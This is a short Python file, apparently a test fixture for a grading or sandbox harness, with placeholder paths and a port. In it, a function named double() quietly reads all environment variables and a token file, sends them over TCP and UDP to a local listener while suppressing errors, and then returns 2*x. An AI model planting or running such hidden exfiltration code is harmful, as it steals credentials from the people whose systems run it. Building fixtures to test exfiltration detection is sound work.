"""Reads the answers and sends them to a machine of its own, by TCP and by UDP.

must: ok
harm: token
then: ok
"""

import contextlib
import os
import socket


def double(x):
    loot = repr(dict(os.environ)).encode()
    with contextlib.suppress(OSError), open("@COURSE@/reference/wall/token.txt", "rb") as file:
        loot += file.read()
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", int("@PORT@")), 1) as stream:
        stream.sendall(loot)
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(loot, ("127.0.0.1", int("@PORT@")))
    return 2 * x


def triple(x):
    return 3 * x
